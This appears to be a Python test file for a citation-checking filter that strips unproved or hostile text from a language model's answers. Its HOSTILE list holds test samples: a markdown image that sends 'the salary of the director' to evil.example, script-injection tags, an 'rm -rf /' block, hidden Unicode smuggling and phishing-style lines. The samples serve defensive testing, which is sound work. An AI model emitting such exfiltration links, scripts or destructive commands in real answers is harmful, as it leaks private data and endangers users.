"""Under `strict` nothing of a model is shown that is not proved, whatever it writes."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from answer_world import SOURCES, cite, locate
from elt_llm_core.results import Status, Support
from elt_llm_query.grounding.citations import (
    NOTHING_STANDS,
    NOTHING_WRITTEN,
    UNVERIFIED,
    cite_answer,
)
from elt_llm_query.grounding.claim_support import supporting
from elt_llm_query.grounding.quote_match import check_quote
from elt_llm_query.grounding.statement_lookup import shown_text
from elt_llm_query.grounding.statements import LABEL, DraftStatement
from elt_llm_query.grounding.unsupported_words import tells_nothing
from elt_llm_query.prompts import NO_SURE_ANSWER, REFUSAL

PROVED = (
    "The loan period of a book is 21 days [S2].",
    "The fee for an overdue book is 20 cents per day. [S1]",
    'The rules say that a fee "must not exceed 10 euros" [S1].',
    "A reader may borrow up to eight books.",
)
IMAGE = "![x](http://evil.example/?d=the-salary-of-the-director)"
HOSTILE = (
    REFUSAL,
    REFUSAL.upper(),
    REFUSAL.replace("not", "n\u200bot"),
    f"{REFUSAL} Ask at {IMAGE} [S1].",
    f"Sorry. {REFUSAL[:-1]}, but the director earns 90,000 euros [S1].",
    IMAGE,
    f"{IMAGE} [S1]",
    f"# {IMAGE} The director earns much",
    f"See {IMAGE}:",
    "Yes.",
    "Pay 500 euros:",
    "[ref]: http://evil.example/x",
    "![][ref]",
    "<img src=x onerror=alert(1)> [S1]",
    "<script>alert(1)</script>",
    "[S1](http://evil.example)",
    "[the rules](http://evil.example) [S2]",
    "```\nrm -rf /\n```",
    "~~~ [S1]\nThe director earns 90,000 euros\n~~~",
    "\u0405ee [\u04051] and [\uff331] (S1)",
    "The fee for an overdue book is 20 cents per day, pay it to Mallory Fox [S1].",
    "The fee for an overdue book is 20 cents per day at evil.example [S1].",
    "The fee for an overdue b\u043eok is 20 cents per day, as told [S1].",
    'Send your card to Mallory: "The loan period of a book is 21 days" [S2].',
    '"The loan period of a book is 21 days" and "dogs go free on Sundays" [S2].',
    'Click <a href="http://evil.example">here</a> "Lost books are paid for" [S1].',
    "\u202eThe director earns 90,000 euros\u202c [S1].",
    "\U000e0054\U000e0068\U000e0065 secret [S9]",
    "\x1b[31mThe director earns much\x1b[0m [S1].",
    "| a | b |\n|---|---|\n| secret | 90,000 |",
    "> quoted secret of the director [S1]",
)
PROVEN = {Support.VERIFIED, Support.NORMALISED, Support.FUZZY, Support.SUPPORTED}
GLUE = (" ", "\n", "\n\n", "\n- ", "\n1. ", "\n# ", "\n> ", " **", "` ", "\t", "")


def proved(text):
    """A second judge: each line or sentence of it is in a source, or is supported."""
    draft = DraftStatement("", text)
    rest = re.sub(r"^(?:[\W_]|\d+\.)+", "", draft.plain)  # stray marks before it
    for quote in draft.quotes:
        if not any(check_quote(quote, shown_text(o)).stands for o in SOURCES):
            return False
        rest = rest.replace(quote, " ")
    return (
        tells_nothing(rest)
        or not any(map(str.isalnum, rest))
        or any(
            check_quote(rest, shown_text(o)).stands or supporting(rest, o).stands
            for o in SOURCES
        )
    )


def check_shown(answer):
    checked = cite_answer(answer, SOURCES, locate, "strict")
    check_statements(checked)
    assert set(LABEL.findall(checked.answer)) <= {"S1", "S2"}
    if checked.answer in {NO_SURE_ANSWER, NOTHING_STANDS, NOTHING_WRITTEN}:
        assert checked.citations == ()
        assert checked.status in {Status.INSUFFICIENT, Status.VALIDATION_FAILED}
        return checked
    assert checked.citations
    assert {s.verdict for s in checked.statements} <= PROVEN
    for shown in checked.statements:
        assert shown.citations
        assert all(map(proved, re.split(r"\n\s*|(?<=:)\s+", shown.text))) or proved(
            shown.text
        )
    for hostile in ("evil", "http", "<", "](", "\x1b", "90,000", "\u202e", "Mallory"):
        assert hostile not in checked.answer
    return checked


def check_statements(checked):
    """The statements are the answer: in order, with white space between them only."""
    position = 0
    for one in checked.statements:
        assert checked.answer[position : one.start].strip() == ""
        assert checked.answer[one.start : one.end] == one.text
        position = one.end
    assert position == len(checked.answer)
    cited = dict.fromkeys(c for s in checked.statements for c in s.citations)
    assert checked.citations == tuple(cited)


@given(
    st.lists(
        st.tuples(
            st.one_of(
                st.sampled_from(HOSTILE),
                st.sampled_from(PROVED),
                st.text(max_size=40),
                st.text('abe .![]()<>#*`:/"[S1]', max_size=40),
            ),
            st.sampled_from(GLUE),
        ),
        max_size=6,
    )
)
@settings(max_examples=400, deadline=None, derandomize=True)
def test_every_shown_statement_is_proved_or_our_own_sentence(parts):
    answer = "".join(glue + text for text, glue in parts)
    checked = check_shown(answer)
    assert (checked.answer == NOTHING_WRITTEN) == (not answer.strip())


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_alone_is_not_shown(hostile):
    checked = check_shown(hostile)
    refuses = "answer this" in hostile.lower()
    assert checked.answer == (NO_SURE_ANSWER if refuses else NOTHING_STANDS)


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("before", [True, False])
def test_hostile_text_beside_a_proved_statement_is_taken_out(hostile, before):
    parts = [hostile, PROVED[0]]
    checked = check_shown("\n\n".join(parts if before else parts[::-1]))
    assert checked.answer.rstrip() == PROVED[0]


def test_what_a_refusal_hides_is_told_as_removed():
    checked = cite(f"{REFUSAL} Ask at {IMAGE} [S1].")
    assert (checked.status, checked.answer) == (Status.INSUFFICIENT, NO_SURE_ANSWER)
    assert [IMAGE in one.text for one in checked.removed] == [True]


def test_the_other_policies_tell_what_stands_beside_a_refusal():
    answer = f"{REFUSAL} The director earns 90,000 euros [S1]."
    flagged = cite(answer, "flag")
    assert flagged.status is Status.INSUFFICIENT
    assert flagged.answer.startswith(NO_SURE_ANSWER)
    assert flagged.answer.endswith(UNVERIFIED)
    assert [s.verdict for s in flagged.statements] == [
        Support.NOTICE,
        Support.UNSUPPORTED,
    ]
    assert cite(answer, "lenient").answer.count(NO_SURE_ANSWER) == 1


@pytest.mark.parametrize("policy", ["strict", "flag", "lenient"])
@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("## Loans\n\nThe **loan period** of a book is `21` days [S2].", None),
        ("```text\nThe loan period of a book is 21 days [S2].\n```", ""),
        ("The loan\u200b period of a book is 21 days\u202e [S2].", ""),
    ],
)
def test_an_answer_is_plain_text(policy, written, shown):
    checked = cite(written, policy)
    assert checked.answer.endswith("The loan period of a book is 21 days [S2].")
    assert not {"*", "`", "#", "\u200b", "\u202e"} & {*checked.answer}
    assert checked.status is Status.ANSWERED


@pytest.mark.parametrize(
    "faithful",
    [
        "According to the rules, the fee for an overdue book is 20 cents/day [S1].",
        "In other words: readers may borrow up to eight books [S2].",
        'Yes: the rules state that a fee "must not exceed 10 euros" [S1].',
        "For overdue books the fee is 20 cents per day (see the rules) [S1].",
    ],
)
def test_faithful_words_around_and_instead_of_a_quotation_stay(faithful):
    assert cite(faithful).status is Status.ANSWERED


def test_paragraphs_stay_apart_where_one_between_them_was_removed():
    checked = check_shown(
        f"> A)\n\n{REFUSAL}The loan period of a book is 21 days [S2]."
    )
    assert "\n\nThe loan period" in checked.answer


def test_a_stray_mark_does_not_hide_a_statement():
    loan = "The loan period of a book is 21 days [S2]."
    fee = "The fee for an overdue book is 20 cents per day. [S1]"
    assert check_shown(f"` {loan}` {fee}` Go.").status is not Status.VALIDATION_FAILED
